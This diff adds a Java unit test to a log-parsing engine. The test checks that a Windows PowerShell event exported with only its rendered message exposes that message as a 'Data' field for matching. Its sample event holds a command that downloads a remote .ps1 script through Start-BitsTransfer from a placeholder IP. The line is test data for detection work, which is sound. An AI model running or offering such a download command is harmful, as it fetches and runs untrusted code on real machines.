@@ -2,6 +2,7 @@ package org.gamekeeper.engine.source;
 
 import org.gamekeeper.engine.Problem;
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertNull;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
@@ -247,6 +248,24 @@ class JsonSourceTest {
         assertEquals("true", cleared.field("Enabled"));
         assertEquals("", cleared.field("Note"));
         assertEquals(-1, cleared.recordId());
+    }
+
+    /** NXLog's export of the classic Windows PowerShell log keeps only the rendered message; written for this test. */
+    @Test
+    void anExportThatKeptOnlyTheRenderedMessageGivesItAsData() {
+        String message = "Pipeline execution details for command line: Start-BitsTransfer -Source http://198.51.100.7/a.ps1. "
+                + "Details: CommandInvocation(Start-BitsTransfer): \\\"Start-BitsTransfer\\\"";
+        read("classic.json", "{\"EventID\":800,\"Channel\":\"Windows PowerShell\",\"Hostname\":\"WS01\",\"Message\":\"" + message + "\"}\n"
+                + "{\"EventID\":1000,\"Channel\":\"Application\",\"Data\":[\"lsass.exe\",\"c0000005\"],\"Message\":\"Faulting application name: lsass.exe\"}\n"
+                + "{\"EventID\":4624,\"Channel\":\"Security\",\"TargetUserName\":\"alice\"}\n");
+        assertEquals(List.of(), problems);
+        assertEquals(message.replace("\\\"", "\""), events.get(0).field("Data"));
+        assertEquals(events.get(0).field("Message"), events.get(0).field("Data"));
+        assertEquals(List.of("lsass.exe", "c0000005"), events.get(1).fieldValues("Data"), "an event's own Data is kept");
+        assertNull(events.get(2).field("Data"), "no message, no Data");
+        List<String> keys = new ArrayList<>();
+        events.get(0).forEachField((k, v) -> keys.add(k));
+        assertFalse(keys.contains("Data"), "the alias is for matching, not a field of its own: " + keys);
     }
 
     @Test
